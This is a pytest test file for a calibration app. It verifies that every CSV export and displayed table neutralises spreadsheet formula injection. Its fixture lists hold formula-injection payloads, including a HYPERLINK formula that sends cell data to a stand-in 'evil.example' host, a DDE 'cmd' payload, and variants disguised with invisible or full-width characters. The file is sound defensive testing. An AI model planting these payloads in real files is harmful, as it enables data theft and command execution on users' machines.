"""No cell of a table PairCal writes or shows can run as a spreadsheet formula.

A formula is planted in every text column of every export: the CSV files the
command lines write (read back from disk), the app's CSV downloads (through
the functions that make their data), and every table the app hands to
``st.dataframe``, whose toolbar offers "Download as CSV". No text cell, index
label or column name may then start like a formula (:func:`pairs.export.formula_like`);
numbers stay numbers.
"""

from __future__ import annotations

import ast
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import cli.calibration
import cli.pairs
from pairs.bank import STARTER_BANK_PATH
from pairs.export import csv_text, formula_like, neutralize_formula, spreadsheet_safe
from pairs.importers import read_bank
from pairs.judgments import COLUMNS, to_csv

ROOT = Path(__file__).resolve().parent.parent

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=2+2",
]
"""Formulas as a spreadsheet runs them."""
DISGUISED = [
    " =1+1",
    "  @SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u200b=1+1",
    "\ufeff+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\ufe661+1",  # small equals sign
    "\u22121",  # minus sign
    "\u3000=1",  # ideographic space
]
"""Formulas behind whitespace or an invisible character, or written with a compatibility form."""
PLAIN = ["ann", "José", "李雷", "a=b", "x-1", "'quoted", "", "3", "1e5", "(1)"]


def live_cells(table: pd.DataFrame | pd.Series) -> list[object]:
    """The formula-like text of ``table``: in its text cells, its index labels and its column names."""
    frame = table.to_frame() if isinstance(table, pd.Series) else table
    found = []
    labels = list(frame.columns) + list(frame.columns.names)
    for level in range(frame.index.nlevels):
        labels += list(frame.index.get_level_values(level)) + [frame.index.names[level]]
    found += [label for label in labels if isinstance(label, str) and formula_like(label)]
    for column in range(frame.shape[1]):
        values = frame.iloc[:, column]
        if values.dtype == object or pd.api.types.is_string_dtype(values.dtype):
            found += [v for v in values if isinstance(v, str) and formula_like(v)]
        elif isinstance(values.dtype, pd.CategoricalDtype):
            found += [v for v in values.astype(object) if isinstance(v, str) and formula_like(v)]
    return found


NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def live_in_csv(text: str) -> list[object]:
    """The formula-like cells of CSV text as a spreadsheet reads it: a cell that is a number, such as
    ``-1``, is a number, in a column of numbers or not."""
    frame = pd.read_csv(io.StringIO(text), keep_default_na=False)
    return [cell for cell in live_cells(frame) if not (isinstance(cell, str) and NUMBER.fullmatch(cell))]


def planted_bank(tmp_path: Path, n: int = 40) -> Path:
    """A bank file of ``n`` starter pairs with a formula in every text field a table shows."""
    records = [json.loads(line) for line in STARTER_BANK_PATH.read_text().splitlines()[:n]]
    for i, rec in enumerate(records):
        formula = FORMULAS[i % len(FORMULAS)]
        rec["id"] = f"{formula} #{i}" if i % 2 else f"p{i}"
        rec["prompt"] = f"{formula} {rec['prompt']}"
        rec["tags"] = [f"{formula} {rec['tags'][0] if rec['tags'] else 'x'}"] + list(rec["tags"])[1:]
        rec["domain"] = ["=2+2", "-2+3", "\uff20sum(a1)"][i % 3]  # the last one full-width
        rec["source"] = formula
        rec["rationale"] = f"{formula} {rec.get('rationale', '')}"
    path = tmp_path / "sneaky.jsonl"
    path.write_text("".join(json.dumps(rec) + "\n" for rec in records))
    return path


RATERS = ['=HYPERLINK("http://evil.example/?"&A1,"me")', "+mallory", "-trudy", "@eve", "\uff1dSUM(A1)"]
"""Rater names a file may give (the last one, full-width, is read as ``=SUM(A1)``)."""


def planted_judgments(bank: pd.DataFrame, per_rater: int = 30) -> pd.DataFrame:
    """Judgments by raters named like formulas, enough each to be ranked, all made this week
    (the leaderboard's default period) and none in the future."""
    rng = np.random.default_rng(7)
    now = pd.Timestamp(datetime.now(UTC))
    start = max(now - timedelta(hours=1), (now - timedelta(days=now.weekday())).floor("D"))
    step = (now - start) / (len(RATERS) * per_rater + 1)
    rows = []
    for r, rater in enumerate(RATERS):
        for k, pair_id in enumerate(bank["id"].head(per_rater)):
            rows.append(
                {
                    "rater": rater,
                    "pair_id": pair_id,
                    "choice": "A" if rng.random() < 0.6 else "B",
                    "confidence": round(float(rng.uniform(0.5, 1.0)), 2),
                    "left": "A" if k % 2 else "B",
                    "answered_at": start + step * (r * per_rater + k),
                    "seconds": 12.5,
                }
            )
    return pd.DataFrame(rows, columns=COLUMNS)


def write_judgments_csv(path: Path, frame: pd.DataFrame) -> Path:
    """``frame`` as a judgments file, cells as they are (what another tool might write)."""
    out = frame.assign(answered_at=frame["answered_at"].map(lambda t: t.isoformat()))
    path.write_text(out.to_csv(index=False, lineterminator="\n"), encoding="utf-8")
    return path


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize("cell", FORMULAS + DISGUISED)
def test_a_formula_gets_an_apostrophe(cell):
    assert formula_like(cell)
    assert neutralize_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", [*PLAIN, 3, -3, -2.5, None, np.nan])
def test_plain_text_and_numbers_are_left_as_they_are(cell):
    assert neutralize_formula(cell) is cell


@pytest.mark.parametrize("cell", ["-0.120", "+8%", "-20%", "-0.097 to 0.361", "0.2 to -0.1"])
def test_a_figure_written_as_text_is_not_a_formula(cell):
    """The app's tables write negative figures and intervals as text; a spreadsheet calls nothing."""
    assert neutralize_formula(cell) is cell


@pytest.mark.parametrize("cell", ["-1+2", "-0.1 to A1", "-1 to 2)", "+1e5", "-1,2", "\u22120.5"])
def test_text_that_only_starts_like_a_figure_is_still_a_formula(cell):
    assert neutralize_formula(cell) == "'" + cell


def test_every_text_place_of_a_table_is_neutralized_and_numbers_stay_numbers():
    cells = FORMULAS + DISGUISED
    n = len(cells)
    frame = pd.DataFrame(
        {
            "text": pd.Series(cells, dtype="str"),
            "object": pd.Series(cells, dtype=object),
            "mixed": pd.Series([cells[0], -1, None, *cells[3:]], dtype=object),
            "category": pd.Categorical(cells),
            "number": -np.arange(n, dtype=float),
            "integer": -np.arange(n),
            "time": pd.date_range("2026-01-01", periods=n, tz="UTC"),
        }
    )
    frame = frame.set_axis(pd.Index(cells, name="=index")).rename(columns={"object": "@object"})
    assert len(live_cells(frame)) == 5 * n  # 4 text columns (two cells are not text), index, 2 names
    safe = spreadsheet_safe(frame)
    assert live_cells(safe) == []
    assert live_in_csv(csv_text(frame, index=True)) == []
    assert safe["text"].tolist() == ["'" + c for c in cells]
    assert safe["mixed"].tolist()[1:3] == [-1, None]
    numbers = ["number", "integer", "time"]
    pd.testing.assert_frame_equal(safe[numbers].reset_index(drop=True), frame[numbers].reset_index(drop=True))
    assert [d.name for d in safe.dtypes] == [d.name for d in frame.dtypes]  # str, object, category, ...
    series = pd.Series({c: i for i, c in enumerate(cells)}, name="+pairs").rename_axis("-tag")
    assert live_cells(spreadsheet_safe(series)) == [] and len(live_cells(series)) == n + 2
    multi = pd.DataFrame({"v": range(2)}, index=pd.MultiIndex.from_tuples([("=a", "b"), ("c", "+d")]))
    assert live_cells(spreadsheet_safe(multi)) == []


def test_a_clean_table_is_returned_as_it_is():
    frame = pd.DataFrame({"rater": PLAIN, "n": range(len(PLAIN))})
    assert spreadsheet_safe(frame) is frame


def test_the_judgments_csv_neutralizes_every_text_column():
    cells = FORMULAS + DISGUISED
    frame = pd.DataFrame(
        {
            "rater": cells,
            "pair_id": cells[::-1],
            "choice": cells,
            "confidence": 0.75,
            "left": cells[::-1],
            "answered_at": pd.Timestamp("2026-11-01T10:00:00Z"),
            "seconds": 3.0,
        }
    )
    text = to_csv(frame)
    assert live_in_csv(text) == []
    assert live_in_csv(frame.to_csv(index=False))  # the same frame written plainly is dangerous


# --------------------------------------------------------------------------- command lines


def test_pairs_judgments_export_writes_no_live_cell(tmp_path, capsys):
    from storage.store import Store

    db = f"sqlite:///{tmp_path / 'x.db'}"
    bank = read_bank(planted_bank(tmp_path))
    store = Store(db)
    store.import_bank("sneaky", bank)
    store.import_judgments(planted_judgments(bank), bank="sneaky")
    out = tmp_path / "j.csv"
    assert cli.pairs.main(["judgments", "export", "--out", str(out), "--db", db]) == 0
    text = out.read_text(encoding="utf-8")
    written = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert len(written) == 5 * 30 and written["pair_id"].str.startswith("'").any()  # formulas were there
    assert live_in_csv(text) == []


def test_calibration_leaderboard_csv_has_no_live_cell_in_the_file_or_on_stdout(tmp_path, capsys):
    bank_path = planted_bank(tmp_path)
    judgments = write_judgments_csv(tmp_path / "j.csv", planted_judgments(read_bank(bank_path)))
    out = tmp_path / "board.csv"
    argv = ["leaderboard", "--bank", str(bank_path), "--judgments", str(judgments), "--min-n", "5"]
    assert cli.calibration.main([*argv, "--out", str(out)]) == 0, capsys.readouterr().err
    text = out.read_text(encoding="utf-8")
    assert len(pd.read_csv(io.StringIO(text))) == len(RATERS)
    assert live_in_csv(text) == []
    capsys.readouterr()
    assert cli.calibration.main(argv) == 0
    printed = capsys.readouterr().out
    assert printed == text and live_in_csv(printed) == []


def test_calibration_simulate_writes_no_live_cell(tmp_path, capsys):
    out = tmp_path / "sim.csv"
    argv = ["simulate", "--bank", str(planted_bank(tmp_path)), "--out", str(out), "--raters", "3"]
    assert cli.calibration.main([*argv, "--per-rater", "20"]) == 0
    text = out.read_text(encoding="utf-8")
    assert pd.read_csv(io.StringIO(text))["pair_id"].str.startswith("'").any()
    assert live_in_csv(text) == []


# --------------------------------------------------------------------------- the app's downloads


def test_the_apps_judgments_downloads_have_no_live_cell(tmp_path):
    """The lead's "Judgments (CSV)" and a rater's "My judgments (CSV)" are ``to_csv`` of prepared
    judgments (views/lead.py, views/components.py)."""
    from calibration.data import prepare

    bank = read_bank(planted_bank(tmp_path))
    prepared = prepare(bank, planted_judgments(bank))
    assert live_cells(prepared)  # formulas in the rater and pair id columns
    cohort = to_csv(prepared.sort_values("answered_at", kind="stable"))
    mine = to_csv(prepared[prepared["rater"] == RATERS[0]])
    assert live_in_csv(cohort) == [] and live_in_csv(mine) == []


# --------------------------------------------------------------------------- the app's tables


@pytest.fixture
def sneaky_cohort(app_store, tmp_path):
    """A cohort drilling on a bank with formulas in its ids, prompts, tags, domains and sources,
    answered by raters named like formulas."""
    from training import accounts

    store = app_store
    lead, _ = accounts.create_cohort(store, "alpha", "lena", "lead-password")
    bank = read_bank(planted_bank(tmp_path))
    store.import_bank("sneaky", bank)
    accounts.set_drill_settings(store, lead.cohort_id, bank="sneaky")
    store.import_judgments(planted_judgments(bank), bank="sneaky", cohort="alpha")
    return store, lead


def tables_of(at) -> list[pd.DataFrame]:
    return [element.value for element in at.dataframe]


@pytest.mark.parametrize("page", ["views/lead.py", "views/bank.py", "views/leaderboard.py"])
def test_no_table_the_app_shows_offers_a_live_cell_to_its_csv_download(sneaky_cohort, page):
    from streamlit.testing.v1 import AppTest

    from training import accounts
    from views.common import TOKEN

    store, lead = sneaky_cohort
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.session_state[TOKEN] = accounts.start_session(store, lead.id)
    at.run()
    at.switch_page(page).run()
    assert not at.exception, at.exception
    if page == "views/lead.py":  # the bank's statistics, and a rater's report with its tables
        at.selectbox(key="bank_stats_name").set_value("sneaky").run()
        rater = next(name for name in at.selectbox(key="lead_rater").options if "HYPERLINK" in name)
        at.selectbox(key="lead_rater").set_value(rater).run()
    elif page == "views/bank.py":
        at.selectbox(key="bank_name").set_value("sneaky").run()
    assert not at.exception, at.exception
    tables = tables_of(at)
    assert tables and [live_cells(table) for table in tables] == [[] for _ in tables], page
    planted = {"views/lead.py": "'=2+2", "views/bank.py": "'=2+2", "views/leaderboard.py": "'@eve"}[page]
    shown = {str(cell) for table in tables for cell in [*table.to_numpy().ravel(), *table.index]}
    assert planted in shown  # the formulas reached the tables, behind their apostrophe


# --------------------------------------------------------------------------- one path for all


def _calls(path: Path) -> list[ast.Call]:
    return [node for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)]


def _name(node: ast.AST) -> str:
    if isinstance(node, ast.Attribute):
        return node.attr
    if isinstance(node, ast.Name):
        return node.id
    return ""


VIEW_FILES = [ROOT / "app.py", *sorted((ROOT / "views").glob("*.py"))]
WRITER_FILES = [
    path
    for package in ("pairs", "calibration", "cli", "training", "views")
    for path in (ROOT / package).rglob("*.py")
] + [ROOT / "app.py"]


def test_every_table_the_app_shows_goes_through_spreadsheet_safe():
    unsafe = []
    for path in VIEW_FILES:
        for call in _calls(path):
            if _name(call.func) in ("dataframe", "table", "data_editor"):
                given = (
                    call.args[0]
                    if call.args
                    else next((k.value for k in call.keywords if k.arg == "data"), None)
                )
                if not (isinstance(given, ast.Call) and _name(given.func) == "spreadsheet_safe"):
                    unsafe.append(f"{path.relative_to(ROOT)}:{call.lineno}")
    assert unsafe == []


def test_every_csv_download_is_made_by_the_judgments_or_export_writer():
    unsafe = []
    for path in VIEW_FILES:
        for call in _calls(path):
            if _name(call.func) != "download_button":
                continue
            mimes = [n.value for n in ast.walk(call) if isinstance(n, ast.Constant) and n.value == "text/csv"]
            writers = {_name(n.func) for n in ast.walk(call) if isinstance(n, ast.Call)}
            if mimes and not writers & {"to_csv", "csv_text"}:
                unsafe.append(f"{path.relative_to(ROOT)}:{call.lineno}")
    assert unsafe == []


def test_only_pairs_export_calls_pandas_to_csv():
    """Every CSV is written by ``pairs.export.csv_text`` (``pairs.judgments.to_csv`` calls it)."""
    callers = [
        f"{path.relative_to(ROOT)}:{call.lineno}"
        for path in WRITER_FILES
        if path != ROOT / "pairs" / "export.py"
        for call in _calls(path)
        if isinstance(call.func, ast.Attribute) and call.func.attr == "to_csv"
    ]
    assert callers == []
